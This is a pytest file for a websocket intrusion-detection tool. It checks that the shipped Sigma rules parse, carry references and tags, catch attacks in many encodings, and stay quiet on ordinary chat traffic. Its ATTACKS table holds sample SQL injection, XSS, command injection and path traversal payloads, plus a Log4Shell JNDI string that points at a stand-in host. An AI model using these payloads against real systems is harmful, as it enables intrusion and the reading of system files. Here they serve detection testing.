"""The rules that ship: sound, proven by their own tests, silent on ordinary traffic."""

import json
from importlib import resources
from urllib.parse import quote

import pytest
from sigma.collection import SigmaCollection

from sockwarden.agent.alert import Category
from sockwarden.agent.rules.compile import matches_of
from sockwarden.agent.rules.model import Correlation
from sockwarden.agent.rules.pattern import Pattern
from sockwarden.agent.rules.selftest import failed_tests

DEFAULT = resources.files("sockwarden.agent.rules") / "default"
FILES = sorted(
    (folder.name, file.name, file.read_text())
    for folder in DEFAULT.iterdir()
    for file in folder.iterdir()
)

ATTACKS = {
    "sqli-union-select": "1' UNION SELECT null,version()-- -",
    "sqli-tautology": "' or '1'='1",
    "xss-script-tag": "<script>alert(1)</script>",
    "command-injection": "127.0.0.1; cat /etc/passwd",
    "path-traversal": "../../../etc/passwd",
    "log4shell": "${jndi:ldap://evil.example/a}",
}

LONG = bytes(range(1, 256)) * 4

ORDINARY = [
    "hello, how are you?",
    "Let's drop the old table & select a new union rep; where do we sleep?",
    "It's 5 o'clock -- and that's *fine*, isn't it? # yes",
    "# Notes\n\n- use `ls` or `cat file`\n- see <https://example.com/a?b=c&d=e>\n\n---\n",
    "<p class=\"note\">Some <b>HTML</b> with <a href='https://example.com'>a link</a></p>",
    '{"type":"update","id":"2f1c9a0e-7a3e-4c31-9d8e-0d6f2b7c1e55","pos":[0.12,-3.4],"ok":true}',
    '42["message",{"room":"a & b","text":"SELECT your seats, or else = null"}]',
    "https://example.com/search?q=100%25%20cotton&page=2#top",
    "C:\\Users\\ann\\Documents\\notes.txt",
    "for (let i = 0; i < 10; i++) { total += prices[i]; }",
    "Price: $5 {discount} and {{ name }} in a template",
    "a -> b; c => d | e && f",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "\u4f60\u597d, \u043f\u0440\u0438\u0432\u0435\u0442, \U0001f600",
]


def all_escaped(text):
    return '{"m":"' + "".join(f"\\u{ord(c):04x}" for c in text) + '"}'


ENVELOPES = {
    "plain": str,
    "json": lambda text: json.dumps({"type": "chat", "text": text}),
    "every character escaped": all_escaped,
    "json in json": lambda text: json.dumps({"data": json.dumps({"text": text})}),
    "socket.io": lambda text: "42" + json.dumps(["message", {"text": text}]),
    "percent": lambda text: "q=" + quote(text, safe=""),
    "percent twice": lambda text: "q=" + quote(quote(text, safe=""), safe=""),
    "percent in escaped json": lambda text: all_escaped(quote(text, safe="")),
}


def test_the_tests_in_the_rules_hold(shipped):
    assert [str(problem) for problem in failed_tests(shipped)] == []


def test_every_pattern_tells_where_its_match_begins(shipped):
    for rule in shipped.rules:
        if not isinstance(rule, Correlation):
            for test in matches_of(rule.condition):
                pattern = Pattern(test.regex, test.flags)
                assert pattern.knows_start, (rule.name, test.regex)
                pattern.search(LONG)  # and does not end the process, whatever Vectorscan does


def test_every_category_has_rules(shipped):
    assert {rule.category for rule in shipped.rules} == set(Category)


def test_every_rule_says_what_an_analyst_needs(shipped):
    for rule in shipped.rules:
        assert rule.references, rule.name
        assert rule.false_positives, rule.name
        assert any(tag.startswith("attack.") for tag in rule.tags), rule.name
        assert isinstance(rule, Correlation) or rule.path.endswith(f"/{rule.name}.yml")


@pytest.mark.parametrize(("folder", "name", "text"), FILES, ids=[f"{a}/{b}" for a, b, _ in FILES])
def test_pysigma_accepts_the_file(folder, name, text):
    collection = SigmaCollection.from_yaml(text)
    assert collection.errors == []
    assert len(collection.rules) >= 1


@pytest.mark.parametrize("envelope", ENVELOPES)
@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_found_in_every_envelope(shipped, make, name, envelope):
    assert name in make.names(shipped.judge(ENVELOPES[envelope](ATTACKS[name]).encode()))


@pytest.mark.parametrize("direction", [0, 1])
@pytest.mark.parametrize("envelope", ENVELOPES)
def test_ordinary_messages_are_silent(shipped, make, envelope, direction):
    for text in ORDINARY:
        message = ENVELOPES[envelope](text).encode()
        assert make.names(shipped.judge(message, direction=direction)) == [], text


def test_a_flood_is_told_once_a_second(shipped, make):
    session = shipped.session()
    hits = [
        hit
        for number in range(2000)
        for hit in session.judge(b"x", time_ns=number * 1_000_000, messages=number + 1)
    ]
    assert make.names(hits) == ["message-flood", "message-flood"]
    assert hits[0].count == 500
